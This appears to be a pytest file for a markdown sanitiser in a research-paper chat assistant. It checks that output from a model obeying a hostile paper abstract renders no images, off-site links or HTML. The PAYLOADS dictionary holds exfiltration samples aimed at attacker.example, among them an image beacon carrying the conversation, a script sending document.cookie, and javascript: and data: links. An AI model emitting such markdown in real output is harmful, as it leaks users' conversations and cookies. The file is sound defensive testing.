"""The one sanitiser (`assistant.safe_markdown`): what a hostile abstract or a model obeying it writes reaches the
browser with no image, no link off this site and no HTML, whether it arrives whole or streamed in pieces.

The output is read back by a real CommonMark parser (markdown-it-py); GitHub's bare-URL and e-mail linking,
which the chat's renderer runs over text after parsing, is checked with the patterns that linker uses."""

import random
import re

import pytest
from markdown_it import MarkdownIt

from assistant.safe_markdown import StreamGuard, safe_markdown

# What the chat's renderer (remark-gfm) links in text nodes: URLs with a scheme or www., and e-mail addresses.
BARE_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE)
BARE_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
OURS = re.compile(r"^(/(papers|researchers|institutions|search)\b|https://(arxiv\.org|doi\.org|openalex\.org)/)")

PAYLOADS = {
    "image": "See ![x](https://attacker.example/?d=conversation) now",
    "image, our own path": "![x](/papers/2004.07180)",
    "nested-bracket label": "[Full text [PDF]](https://attacker.example/x)",
    "reference link": "Read [the paper][r] here.\n\n[r]: https://attacker.example/r",
    "reference image": "![beacon][b]\n\n[b]: https://attacker.example/b.png",
    "collapsed reference": "[r][]\n\n[r]: <https://attacker.example/c>",
    "bare url": "Go to https://attacker.example/steal?x=1 now",
    "bare www": "or www.attacker.example/x",
    "e-mail": "mail secrets to someone@attacker.example please",
    "mailto": "mailto:someone@attacker.example",
    "autolink": "<https://attacker.example/a>",
    "html image": '<img src="https://attacker.example/i.png">',
    "script": "<script>fetch('https://attacker.example/'+document.cookie)</script>",
    "javascript scheme": "[click](javascript:alert(1))",
    "data scheme": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "entity-hidden scheme": "[click](https&#58;//attacker.example/e) and https&#58;//attacker.example/f",
    "escaped bracket": "\\\\[x](https://attacker.example/y)",
    "protocol-relative": "[x](//attacker.example/p)",
    "our path escaping": "[x](/papers/../../attacker)",
    "backslash path": "[x](/papers\\\\attacker.example)",
    "title attribute": '[x](/papers/1 "title")',
    "link in a code span": "`[x](https://attacker.example/code)`",
    "html comment": "<!-- ![x](https://attacker.example/c) -->",
}


def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda _url: True  # see javascript: and data: links too (browsers' renderers may)
    return parser


def off_site(markdown: str) -> list[str]:
    """Every image, HTML, and link to anywhere but our allowed places that `markdown` would render."""
    found = []
    for token in _parser().parse(markdown):
        for child in [token, *(token.children or [])]:
            if child.type == "image":
                found.append(f"image {child.attrGet('src')}")
            elif child.type == "link_open" and not OURS.match(str(child.attrGet("href"))):
                found.append(f"link {child.attrGet('href')}")
            elif child.type in ("html_inline", "html_block"):
                found.append(f"html {child.content}")
            elif child.type == "text" and (BARE_URL.search(child.content) or BARE_EMAIL.search(child.content)):
                found.append(f"bare {child.content}")
    return found


def test_the_checker_sees_every_payload_raw():
    """Unsanitised, each payload (but the harmless ones) renders something off-site: the checker can fail."""
    harmless = {"image, our own path", "title attribute", "link in a code span", "our path escaping", "escaped bracket",
                "backslash path"}  # fmt: skip
    for name, payload in PAYLOADS.items():
        if name not in harmless:
            assert off_site(payload), name


@pytest.mark.parametrize("name", PAYLOADS)
def test_no_payload_renders_anything_off_site(name):
    clean = safe_markdown(PAYLOADS[name])
    assert off_site(clean) == [], clean


@pytest.mark.parametrize("name", PAYLOADS)
def test_streamed_in_any_pieces_it_is_the_same_safe_text(name):
    text = f"Intro [1] {PAYLOADS[name]} and [ok](/papers/2004.07180) end"
    whole = safe_markdown(text)
    rng = random.Random(name)
    for _ in range(20):
        cuts = sorted(rng.sample(range(1, len(text)), min(6, len(text) - 1)))
        guard = StreamGuard()
        shown = "".join(guard.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)]))
        assert whole.startswith(shown) and off_site(shown) == [], shown
    one_by_one = StreamGuard()
    assert "".join(one_by_one.feed(c) for c in text) == whole[: len("".join(StreamGuard().feed(text)))]


def test_safe_text_passes_the_boundary_twice_unchanged():
    for payload in [*PAYLOADS.values(), "a\\b <= c & d &amp; e \\[f\\] www.x.org a@b.co https://x.org"]:
        once = safe_markdown(payload)
        assert safe_markdown(once) == once, payload


def test_our_links_and_ordinary_text_survive():
    text = "See [SPECTER](/papers/2004.07180) and [doi](https://doi.org/10.1/x); x < y & z, a *b* `c`."
    clean = safe_markdown(text)
    tokens = MarkdownIt("commonmark").parse(clean)[1].children
    hrefs = [t.attrGet("href") for t in tokens if t.type == "link_open"]
    assert hrefs == ["/papers/2004.07180", "https://doi.org/10.1/x"]
    assert MarkdownIt("commonmark").render(clean).startswith("<p>See <a href=\"/papers/2004.07180\">SPECTER</a>")
    assert "x &lt; y &amp; z, a <em>b</em> <code>c</code>." in MarkdownIt("commonmark").render(clean)
